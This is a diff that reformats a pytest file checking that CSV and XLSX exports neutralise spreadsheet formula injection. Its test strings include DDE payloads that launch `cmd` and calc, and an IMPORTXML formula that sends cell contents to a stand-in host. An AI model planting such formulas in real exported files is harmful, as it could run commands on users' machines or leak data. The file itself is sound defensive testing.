@@ -25,29 +25,86 @@ from caselog.exports.writers import (
 
 COUNT = 10_000
 PER_ROW = 10
-STARTS = ["=", "+", "-", "@", "\t", "\r", "==", "=-", "-=", "+=", "@@", "\t=", "\r\n=", "",
-          "", "", " ", " =", "'", "'=", "#", "\n", "\u00a0="]
+STARTS = [
+    "=",
+    "+",
+    "-",
+    "@",
+    "\t",
+    "\r",
+    "==",
+    "=-",
+    "-=",
+    "+=",
+    "@@",
+    "\t=",
+    "\r\n=",
+    "",
+    "",
+    "",
+    " ",
+    " =",
+    "'",
+    "'=",
+    "#",
+    "\n",
+    "\u00a0=",
+]
 PIECES = [
-    "SUM(A1:A9)", "1+1", 'cmd|" /C calc"!A0', "HYPERLINK(\"http://x.test\",\"y\")",
-    "IMPORTXML(CONCAT(\"http://x.test/?\",A1),\"//a\")", "DDE(\"cmd\";\"/C calc\";\"__\")",
-    "Lumbar microdiscectomy", "Батбаяр Дорж", "Дискэктоми хийсэн", "척추 감압술", "김민준",
-    "naïve café", "🙂", "e\u0301", "a,b", "a;b", '"quoted"', "it's", "line\nbreak",
-    "crlf\r\nbreak", "lone\rreturn", "tab\there", "  spaced  ", "123", "-1.5", "1e5", "007",
-    "+82 10 1234 5678", "#N/A", "#DIV/0!", "TRUE", "2024-03-04", "90+", "_x000D_", "<b>&amp;",
-    "]]>", "\\", "%s", "{0}",
+    "SUM(A1:A9)",
+    "1+1",
+    'cmd|" /C calc"!A0',
+    'HYPERLINK("http://x.test","y")',
+    'IMPORTXML(CONCAT("http://x.test/?",A1),"//a")',
+    'DDE("cmd";"/C calc";"__")',
+    "Lumbar microdiscectomy",
+    "Батбаяр Дорж",
+    "Дискэктоми хийсэн",
+    "척추 감압술",
+    "김민준",
+    "naïve café",
+    "🙂",
+    "e\u0301",
+    "a,b",
+    "a;b",
+    '"quoted"',
+    "it's",
+    "line\nbreak",
+    "crlf\r\nbreak",
+    "lone\rreturn",
+    "tab\there",
+    "  spaced  ",
+    "123",
+    "-1.5",
+    "1e5",
+    "007",
+    "+82 10 1234 5678",
+    "#N/A",
+    "#DIV/0!",
+    "TRUE",
+    "2024-03-04",
+    "90+",
+    "_x000D_",
+    "<b>&amp;",
+    "]]>",
+    "\\",
+    "%s",
+    "{0}",
 ]
 
 
 def generated_strings(count: int = COUNT, seed: int = 20240304) -> list[str]:
     """Random mixes of dangerous starts and awkward pieces, reproducible from the seed."""
     rng = random.Random(seed)
-    return [rng.choice(STARTS) + "".join(rng.choice(PIECES) for _ in range(rng.randint(0, 4)))
-            for _ in range(count)]
+    return [
+        rng.choice(STARTS) + "".join(rng.choice(PIECES) for _ in range(rng.randint(0, 4)))
+        for _ in range(count)
+    ]
 
 
 def rows_of(strings: list[str]) -> list[list]:
     """The strings, PER_ROW to a row, each row ending with numbers (an int and a float)."""
-    return [[*strings[i:i + PER_ROW], -i, i + 0.25] for i in range(0, len(strings), PER_ROW)]
+    return [[*strings[i : i + PER_ROW], -i, i + 0.25] for i in range(0, len(strings), PER_ROW)]
 
 
 def neutralised(text: str) -> str:
@@ -65,8 +122,23 @@ def test_a_formula_start_gets_an_apostrophe(text):
     assert safe_cell(text) == "'" + text
 
 
-@pytest.mark.parametrize("value", ["a=b", "1+1", " =1", "'=1", "", "Дорж", -5, 3.5, 0, None,
-                                   date(2024, 3, 4), datetime(2024, 3, 4, tzinfo=UTC)])
+@pytest.mark.parametrize(
+    "value",
+    [
+        "a=b",
+        "1+1",
+        " =1",
+        "'=1",
+        "",
+        "Дорж",
+        -5,
+        3.5,
+        0,
+        None,
+        date(2024, 3, 4),
+        datetime(2024, 3, 4, tzinfo=UTC),
+    ],
+)
 def test_anything_else_is_left_as_it_is(value):
     assert safe_cell(value) == value
 
@@ -88,15 +160,15 @@ def test_csv_cells_never_start_a_formula_and_read_back_as_written():
         assert isinstance(whole, float) and isinstance(fraction, float)  # unquoted numbers
         read.extend(texts)
     assert read == [neutralised(s) for s in strings]
-    assert [row[-2:] for row in typed[1:]] == [[-i, i + 0.25]
-                                              for i in range(0, COUNT, PER_ROW)]
+    assert [row[-2:] for row in typed[1:]] == [[-i, i + 0.25] for i in range(0, COUNT, PER_ROW)]
 
 
 def test_xlsx_has_no_formula_cell_and_reads_back_as_written():
     strings = generated_strings()
     target = io.BytesIO()
-    written = write_xlsx(target, ["text"] * PER_ROW + ["int", "float"], rows_of(strings),
-                         title="Cases")
+    written = write_xlsx(
+        target, ["text"] * PER_ROW + ["int", "float"], rows_of(strings), title="Cases"
+    )
     assert written == COUNT // PER_ROW
     with zipfile.ZipFile(io.BytesIO(target.getvalue())) as archive:
         sheet_xml = archive.read("xl/worksheets/sheet1.xml").decode()
@@ -129,8 +201,11 @@ def test_xlsx_keeps_dates_as_dates_and_times_in_utc():
     moment = datetime(2024, 3, 4, 23, 30, tzinfo=UTC)
     write_xlsx(target, ["day", "moment"], [[date(2024, 3, 4), moment]], title="Cases")
     day, when = load_workbook(target).worksheets[0][2]
-    assert (day.is_date, day.value.date(), day.number_format) == (True, date(2024, 3, 4),
-                                                                  "yyyy-mm-dd")
+    assert (day.is_date, day.value.date(), day.number_format) == (
+        True,
+        date(2024, 3, 4),
+        "yyyy-mm-dd",
+    )
     assert when.is_date and when.value == moment.replace(tzinfo=None)
 
 
